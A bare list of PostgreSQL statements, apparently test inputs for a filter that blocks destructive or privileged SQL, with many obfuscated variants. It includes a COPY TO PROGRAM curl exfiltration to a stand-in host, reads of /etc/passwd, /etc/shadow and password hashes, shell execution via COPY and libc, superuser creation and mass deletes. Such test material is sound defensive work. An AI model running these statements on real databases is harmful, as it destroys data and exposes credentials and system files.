DROP TABLE customers
--
drop/**/table/**/if exists customers cascade
--
DrOp TaBlE "customers"
--
DROP TABLE U&"\0063ustomers"
--
SELECT 1; DROP TABLE customers
--
/* harmless */ DROP SCHEMA public CASCADE
--
DROP DATABASE shop
--
DROP DATABASE shop WITH (FORCE)
--
DROP INDEX CONCURRENTLY orders_idx
--
DROP VIEW v
--
DROP FUNCTION f(int)
--
DROP ROLE app
--
DROP OWNED BY app
--
REASSIGN OWNED BY app TO mallory
--
DROP EXTENSION pgcrypto CASCADE
--
DROP TRIGGER audit ON orders
--
DROP POLICY p ON orders
--
DROP PUBLICATION p
--
DROP SUBSCRIPTION s
--
DROP SERVER s CASCADE
--
DROP TYPE mood
--
DROP SEQUENCE orders_id_seq
--
DROP MATERIALIZED VIEW mv
--
DROP EVENT TRIGGER e
--
TRUNCATE customers
--
TRUNCATE TABLE ONLY public.customers RESTART IDENTITY CASCADE
--
truncate"customers"
--
DELETE FROM customers
--
DELETE FROM customers WHERE true
--
DELETE FROM customers WHERE 1 = 1
--
DELETE FROM customers WHERE id = id
--
DELETE FROM customers WHERE id IS NOT NULL OR id IS NULL
--
DELETE FROM customers WHERE NOT false
--
DELETE FROM customers WHERE 'a' = 'a'
--
DELETE FROM customers WHERE id = 5 OR 1=1
--
DELETE FROM customers WHERE id IN (SELECT id FROM customers)
--
DELETE FROM customers WHERE EXISTS (SELECT 1)
--
DELETE FROM customers USING orders
--
DELETE FROM customers WHERE coalesce(true, false)
--
DELETE FROM customers WHERE id > 0 OR id <= 0
--
DELETE FROM customers WHERE name LIKE '%'
--
DELETE FROM customers WHERE length(name) >= 0
--
DELETE FROM customers WHERE id BETWEEN -2147483648 AND 2147483647
--
WITH x AS (DELETE FROM customers RETURNING *) SELECT count(*) FROM x
--
WITH x AS (SELECT 1) DELETE FROM customers
--
EXPLAIN ANALYZE DELETE FROM customers
--
PREPARE p AS DELETE FROM customers; EXECUTE p
--
UPDATE orders SET total = 0
--
UPDATE orders SET total = 0 WHERE 2 > 1
--
UPDATE orders o SET total = 0 FROM customers c WHERE true
--
UPDATE orders SET total = total WHERE total = total
--
UPDATE users SET role = 'admin' WHERE '' = ''
--
UPDATE users SET password = md5('x') WHERE id = id + 0
--
MERGE INTO t USING s ON true WHEN MATCHED THEN DELETE
--
ALTER TABLE customers DROP COLUMN email
--
ALTER TABLE customers DISABLE TRIGGER ALL
--
ALTER TABLE customers DISABLE ROW LEVEL SECURITY
--
ALTER TABLE customers OWNER TO mallory
--
ALTER TABLE customers RENAME TO c2
--
ALTER TABLE customers SET SCHEMA other
--
ALTER TABLE customers ALTER COLUMN id TYPE text
--
ALTER TABLE customers ADD COLUMN x int
--
ALTER ROLE app SUPERUSER
--
ALTER USER app PASSWORD 'x'
--
ALTER ROLE app BYPASSRLS
--
ALTER DATABASE shop OWNER TO mallory
--
ALTER SYSTEM SET log_statement = 'none'
--
ALTER SYSTEM RESET ALL
--
ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO PUBLIC
--
ALTER FUNCTION f() SECURITY DEFINER
--
ALTER EXTENSION pgcrypto UPDATE
--
CREATE ROLE mallory SUPERUSER LOGIN PASSWORD 'x'
--
CREATE USER mallory
--
CREATE EXTENSION dblink
--
CREATE EXTENSION IF NOT EXISTS plpython3u
--
CREATE FUNCTION f() RETURNS void LANGUAGE sql AS 'delete from customers'
--
CREATE FUNCTION sys(cstring) RETURNS int AS '/lib/libc.so.6', 'system' LANGUAGE c
--
CREATE TRIGGER t BEFORE UPDATE ON orders EXECUTE FUNCTION f()
--
CREATE RULE r AS ON SELECT TO t DO INSTEAD SELECT 1
--
CREATE EVENT TRIGGER e ON ddl_command_end EXECUTE FUNCTION f()
--
CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'x.example')
--
CREATE FOREIGN TABLE ft (a int) SERVER s
--
CREATE SUBSCRIPTION s CONNECTION 'host=x.example' PUBLICATION p
--
CREATE PUBLICATION p FOR ALL TABLES
--
CREATE TABLESPACE t LOCATION '/tmp/x'
--
CREATE LANGUAGE plperlu
--
CREATE CAST (text AS int) WITH FUNCTION f(text)
--
CREATE OPERATOR === (leftarg = int, rightarg = int, function = f)
--
CREATE AGGREGATE a (int) (sfunc = f, stype = int)
--
CREATE USER MAPPING FOR app SERVER s OPTIONS (password 'x')
--
CREATE POLICY p ON orders USING (true)
--
GRANT ALL ON ALL TABLES IN SCHEMA public TO PUBLIC
--
GRANT pg_write_server_files TO app
--
GRANT admin TO mallory WITH ADMIN OPTION
--
grant/**/select/**/on/**/customers/**/to/**/public
--
REVOKE ALL ON customers FROM app
--
SECURITY LABEL ON TABLE customers IS 'x'
--
COPY customers TO PROGRAM 'curl -d @- http://x.example'
--
COPY (SELECT * FROM customers) TO '/tmp/customers.csv'
--
COPY customers FROM '/etc/passwd'
--
copy customers from program 'cat /etc/passwd'
--
CoPy(select 1)to/**/program'id'
--
SELECT pg_read_file('/etc/passwd')
--
SELECT pg_read_binary_file('/etc/shadow', 0, 100)
--
SELECT "pg_read_file"('x')
--
SELECT pg_catalog . pg_read_file ('x')
--
SELECT * FROM pg_read_file('/etc/passwd')
--
SELECT U&"pg\005fread_file"('x')
--
SELECT pg_ls_dir('/')
--
SELECT * FROM pg_ls_logdir()
--
SELECT pg_stat_file('/etc/passwd')
--
SELECT lo_import('/etc/passwd')
--
SELECT lo_export(1, '/tmp/x')
--
SELECT pg_file_write('x', 'y', true)
--
SELECT dblink('host=x.example', 'select 1')
--
SELECT * FROM dblink_exec('host=x', 'drop table t')
--
SELECT dblink_connect('host=x.example user=y password=z')
--
SELECT pg_terminate_backend(pid) FROM pg_stat_activity
--
SELECT pg_cancel_backend(1)
--
SELECT pg_reload_conf()
--
SELECT pg_rotate_logfile()
--
SELECT pg_switch_wal()
--
SELECT pg_promote()
--
SELECT pg_create_restore_point('x')
--
SELECT pg_drop_replication_slot('x')
--
SELECT pg_create_logical_replication_slot('x', 'test_decoding')
--
SELECT pg_logical_slot_get_changes('x', NULL, NULL)
--
SELECT pg_replication_origin_drop('x')
--
SELECT set_config('log_statement', 'none', false)
--
SELECT pg_advisory_unlock_all(), pg_terminate_backend(1)
--
SELECT query_to_xml('delete from customers', true, true, '')
--
SELECT xpath('/x', query_to_xml('drop table t', true, false, ''))
--
SELECT database_to_xml(true, false, '')
--
SELECT table_to_xml('pg_authid', true, false, '')
--
SELECT cursor_to_xml('c', 1, false, false, '')
--
SELECT ts_stat('select to_tsvector(1)')
--
SELECT * FROM crosstab('delete from t returning 1,2,3') AS t(a int, b int)
--
DO $$ BEGIN EXECUTE 'drop table customers'; END $$
--
do/**/language/**/plpgsql $x$ begin delete from t; end $x$
--
CALL purge_everything()
--
EXECUTE format('drop table %I', 'x')
--
SET ROLE postgres
--
SET SESSION AUTHORIZATION postgres
--
SET session_replication_role = replica
--
SET log_statement = 'none'
--
SET local_preload_libraries = 'x'
--
SET dynamic_library_path = '/tmp'
--
LOAD '/tmp/evil.so'
--
VACUUM FULL customers
--
CLUSTER customers USING customers_pkey
--
REINDEX DATABASE shop
--
IMPORT FOREIGN SCHEMA public FROM SERVER s INTO public
--
SELECT * FROM pg_authid
--
SELECT rolname, rolpassword FROM pg_catalog.pg_authid
--
SELECT passwd FROM pg_shadow
--
SELECT * FROM pg_hba_file_rules
--
UPDATE pg_database SET datallowconn = false WHERE datname = 'shop'
--
DELETE FROM pg_catalog.pg_class WHERE oid = 1
--
INSERT INTO pg_authid (rolname) VALUES ('x')
--
UPDATE pg_settings SET setting = 'off' WHERE name = 'fsync'
--
DROP TABLE customers; --
--
SELECT 1 /* ; */ ; dRoP /* x */ TABLE customers /* y */ ;
--
BEGIN; TRUNCATE customers; COMMIT
--
SELECT CASE WHEN pg_read_file('x') IS NULL THEN 1 END
--
SELECT (SELECT pg_read_file('x'))
--
SELECT array(SELECT pg_ls_dir('/'))
--
SELECT x FROM (VALUES (pg_read_file('x'))) v(x)
--
SELECT 1 WHERE pg_read_file('x') IS NOT NULL
--
SELECT 1 ORDER BY pg_read_file('x')
--
SELECT coalesce(NULL, pg_read_file('x'))
--
SELECT pg_sleep(1), pg_read_file('x')
--
INSERT INTO t SELECT pg_read_file('x')
--
CREATE TABLE x AS SELECT pg_read_file('x')
--
CREATE TEMP TABLE x AS SELECT * FROM pg_authid
--
DECLARE c CURSOR FOR SELECT pg_read_file('x')
--
WITH a AS MATERIALIZED (SELECT pg_read_file('x') f) SELECT f FROM a
--
TABLE pg_authid
--
VALUES (pg_read_file('x'))
--
SELECT lateral_x FROM t, LATERAL pg_ls_dir(t.a) lateral_x
--
COMMENT ON TABLE customers IS NULL
--
ALTER TABLE IF EXISTS public.customers DETACH PARTITION p1
--
ALTER TABLE orders ALTER COLUMN total DROP NOT NULL, DROP CONSTRAINT c
--
ALTER SEQUENCE s RESTART
--
ALTER VIEW v OWNER TO mallory
--
ALTER TYPE mood ADD VALUE 'x'
--
ALTER SUBSCRIPTION s DISABLE
--
ALTER ROLE ALL SET search_path = evil
--
UNLISTEN *; DROP TABLE t
